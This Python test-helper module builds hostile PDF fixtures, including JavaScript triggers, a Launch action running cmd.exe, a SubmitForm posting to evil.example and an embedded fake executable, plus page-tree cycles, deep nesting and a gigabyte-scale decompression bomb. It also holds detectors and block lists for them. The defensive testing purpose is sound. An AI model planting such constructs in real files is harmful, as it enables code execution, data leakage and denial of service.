"""Papers that carry active content, or whose structure would make a reader spend
unbounded memory or time, built with pypdf for the tests; and the means to look through
every object of a PDF for what must never be there."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    TextStringObject,
)

from tests.conftest import pdf_bytes, raw_pdf

n = NameObject
#: What every piece of JavaScript in these papers says: found in a file, some survived.
PAYLOAD = "app.alert('hostile')"


def _js(code: str = PAYLOAD) -> DictionaryObject:
    return DictionaryObject({n("/Type"): n("/Action"), n("/S"): n("/JavaScript"),
                             n("/JS"): TextStringObject(code)})


def _rect(i: int) -> ArrayObject:
    return ArrayObject([FloatObject(50), FloatObject(700 - 30 * i), FloatObject(300),
                        FloatObject(720 - 30 * i)])


def _link(writer: PdfWriter, page: Any, i: int, action: DictionaryObject,
          subtype: str = "/Link", **extra: Any) -> IndirectObject:
    annot = DictionaryObject({n("/Type"): n("/Annot"), n("/Subtype"): n(subtype),
                              n("/Rect"): _rect(i), n("/A"): action,
                              n("/P"): page.indirect_reference})
    annot.update({n(k): v for k, v in extra.items()})
    ref = writer._add_object(annot)
    page.setdefault(n("/Annots"), ArrayObject()).append(ref)
    return ref


#: Each kind of active content, by name: what the clerk is told was removed.
KINDS = ("document JavaScript", "open action", "page additional actions",
         "JavaScript link", "javascript: link", "Launch", "SubmitForm", "ImportData",
         "form field JavaScript", "embedded file", "file attachment", "RichMedia",
         "outline JavaScript", "chained JavaScript")


def hostile_paper(kinds: tuple[str, ...] = KINDS, pages: int = 2) -> bytes:
    """A paper of ``pages`` pages with each kind of active content in ``kinds``, and
    always an ordinary web link, a mailto link and an internal link (which stay)."""
    writer = PdfWriter()
    for i in range(pages):
        writer.append(PdfReader(io.BytesIO(pdf_bytes(f"Hostile paper page {i + 1}"))))
    page = writer.pages[0]
    root = writer._root_object
    _link(writer, page, 0, DictionaryObject({n("/S"): n("/URI"),
                                             n("/URI"): TextStringObject(
                                                 "https://www.kent.gov.uk/")}))
    _link(writer, page, 1, DictionaryObject({n("/S"): n("/URI"), n("/URI"): TextStringObject(
        "mailto:democratic.services@kent.gov.uk")}))
    _link(writer, page, 2, DictionaryObject({n("/S"): n("/GoTo"), n("/D"): ArrayObject(
        [writer.pages[-1].indirect_reference, n("/Fit")])}))
    k = 3
    if "document JavaScript" in kinds:
        tree = DictionaryObject({n("/Names"): ArrayObject([TextStringObject("init"),
                                                            writer._add_object(_js())])})
        root.setdefault(n("/Names"), DictionaryObject())[n("/JavaScript")] = \
            writer._add_object(tree)
    if "open action" in kinds:
        root[n("/OpenAction")] = writer._add_object(_js())
    if "page additional actions" in kinds:
        page[n("/AA")] = DictionaryObject({n("/O"): _js(), n("/C"): _js()})
        root[n("/AA")] = DictionaryObject({n("/WC"): _js()})
    if "JavaScript link" in kinds:
        _link(writer, page, k, _js())
        k += 1
    if "javascript: link" in kinds:
        _link(writer, page, k, DictionaryObject({n("/S"): n("/URI"), n("/URI"):
                                                 TextStringObject(f"javascript:{PAYLOAD}")}))
        k += 1
    if "Launch" in kinds:
        _link(writer, page, k, DictionaryObject({
            n("/S"): n("/Launch"), n("/F"): TextStringObject("calc.exe"),
            n("/Win"): DictionaryObject({n("/F"): TextStringObject("cmd.exe"),
                                         n("/P"): TextStringObject("/c calc")})}))
        k += 1
    if "SubmitForm" in kinds:
        _link(writer, page, k, DictionaryObject({
            n("/S"): n("/SubmitForm"), n("/F"): DictionaryObject({
                n("/FS"): n("/URL"), n("/F"): TextStringObject("https://evil.example/")})}))
        k += 1
    if "ImportData" in kinds:
        _link(writer, page, k, DictionaryObject({n("/S"): n("/ImportData"),
                                                 n("/F"): TextStringObject("data.fdf")}))
        k += 1
    if "form field JavaScript" in kinds:
        field = _link(writer, page, k, _js(), "/Widget", **{
            "/FT": n("/Tx"), "/T": TextStringObject("name"),
            "/AA": DictionaryObject({n("/K"): _js(), n("/F"): _js()})})
        root[n("/AcroForm")] = DictionaryObject({n("/Fields"): ArrayObject([field]),
                                                 n("/XFA"): TextStringObject(
                                                     f"<script>{PAYLOAD}</script>")})
        k += 1
    if "embedded file" in kinds or "file attachment" in kinds:
        data = DecodedStreamObject()
        data.set_data(b"MZ hostile program")
        data[n("/Type")] = n("/EmbeddedFile")
        spec = writer._add_object(DictionaryObject({
            n("/Type"): n("/Filespec"), n("/F"): TextStringObject("payload.exe"),
            n("/EF"): DictionaryObject({n("/F"): writer._add_object(data)})}))
        if "embedded file" in kinds:
            tree = DictionaryObject({n("/Names"): ArrayObject([TextStringObject("payload"),
                                                                spec])})
            root.setdefault(n("/Names"), DictionaryObject())[n("/EmbeddedFiles")] = \
                writer._add_object(tree)
        if "file attachment" in kinds:
            annot = DictionaryObject({n("/Type"): n("/Annot"),
                                      n("/Subtype"): n("/FileAttachment"),
                                      n("/Rect"): _rect(k), n("/FS"): spec})
            page.setdefault(n("/Annots"), ArrayObject()).append(writer._add_object(annot))
            k += 1
    if "RichMedia" in kinds:
        annot = DictionaryObject({n("/Type"): n("/Annot"), n("/Subtype"): n("/RichMedia"),
                                  n("/Rect"): _rect(k), n("/RichMediaContent"):
                                  DictionaryObject({n("/Assets"): DictionaryObject()})})
        page.setdefault(n("/Annots"), ArrayObject()).append(writer._add_object(annot))
        k += 1
    if "outline JavaScript" in kinds:
        item = writer.add_outline_item(title="Start here", page_number=0)
        item.get_object()[n("/A")] = _js()
    if "chained JavaScript" in kinds:
        _link(writer, page, k, DictionaryObject({
            n("/S"): n("/GoTo"), n("/D"): ArrayObject([page.indirect_reference, n("/Fit")]),
            n("/Next"): ArrayObject([_js()])}))
        k += 1
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


#: Action types that must never reach a pack or an exported paper.
ACTIVE_ACTIONS = frozenset({"/JavaScript", "/Launch", "/SubmitForm", "/ImportData",
                            "/Rendition", "/RichMediaExecute", "/GoToE", "/GoToR", "/Movie",
                            "/Sound"})
ACTIVE_ANNOTATIONS = frozenset({"/FileAttachment", "/RichMedia", "/Screen", "/Movie",
                                "/Sound", "/3D"})


def every_object(pdf: bytes) -> Iterator[Any]:
    """Every dictionary and stream dictionary in the file: each indirect object (every
    generation, object streams too) and everything inside them."""
    reader = PdfReader(io.BytesIO(pdf))
    stack: list[Any] = [reader.trailer]
    for gen, objects in reader.xref.items():
        stack += [reader.get_object(IndirectObject(num, gen, reader)) for num in objects]
    stack += [reader.get_object(IndirectObject(num, 0, reader)) for num in reader.xref_objStm]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            continue  # reached as an indirect object of its own
        if isinstance(obj, dict):
            yield obj
            stack.extend(obj.values())
        elif isinstance(obj, list):
            stack.extend(obj)


def active_content(pdf: bytes) -> list[str]:
    """What active content the file holds (empty: none): each action, trigger, script,
    embedded file and active annotation found in any of its objects, and the payload's
    words anywhere in its bytes."""
    found = []
    for obj in every_object(pdf):
        kind = obj.get("/S")
        if kind in ACTIVE_ACTIONS:
            found.append(f"action {kind}")
        if kind == "/URI" and not str(obj.get("/URI", "")).startswith(("https:", "mailto:")):
            found.append(f"URI {obj.get('/URI')}")
        for key in ("/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/XFA", "/EF",
                    "/RichMediaContent"):
            if key in obj:
                found.append(f"key {key}")
        if obj.get("/Subtype") in ACTIVE_ANNOTATIONS:
            found.append(f"annotation {obj.get('/Subtype')}")
        if obj.get("/Type") == "/EmbeddedFile":
            found.append("an embedded file stream")
    if PAYLOAD.encode() in pdf or b"calc.exe" in pdf or b"MZ hostile" in pdf:
        found.append("the payload's bytes")
    return found


def kept_links(pdf: bytes) -> list[str]:
    """The link annotations' actions on the file's pages: URIs, and "GoTo" for internal
    links."""
    out = []
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for annot in page.get("/Annots") or ():
            action = annot.get_object().get("/A")
            if action is not None:
                action = action.get_object()
                out.append(str(action.get("/URI")) if action.get("/S") == "/URI"
                           else str(action.get("/S"))[1:])
    return out


# --- papers whose structure costs unbounded memory or time -------------------------------


_PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
         b" /Resources << >> >>")
_CONTENT = b"<< /Length 0 >>\nstream\n\nendstream"


def page_tree_cycle() -> bytes:
    """The page tree's node lists itself among its kids."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", _PAGE, _CONTENT])


def huge_page_count(pages: int = 50_000) -> bytes:
    """Fifty thousand pages (the same page object listed over and over): 300 KB."""
    kids = b" ".join([b"3 0 R"] * pages)
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
                     _PAGE, _CONTENT])


def deeply_nested(depth: int = 200_000) -> bytes:
    """A resource nested in arrays two hundred thousand deep."""
    nested = b"[" * depth + b"1" + b"]" * depth
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Deep " + nested + b" >> >>")
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, _CONTENT])


def decompression_bomb(gigabytes: int = 4) -> bytes:
    """A page whose content stream inflates from a few megabytes to ``gigabytes``: one
    block of zeros, compressed once, repeated (each block stands alone after a full
    flush)."""
    compressor = zlib.compressobj(9)
    chunk = bytes(1 << 24)  # 16 MB
    head = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = head + block * (gigabytes * 64 - 1) + compressor.flush()
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + \
        b"\nendstream"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, content])


#: Structures that must be refused as damaged within a bounded time, by name.
COSTLY = {"page tree cycle": page_tree_cycle, "huge page count": huge_page_count,
          "deeply nested objects": deeply_nested, "decompression bomb": decompression_bomb}
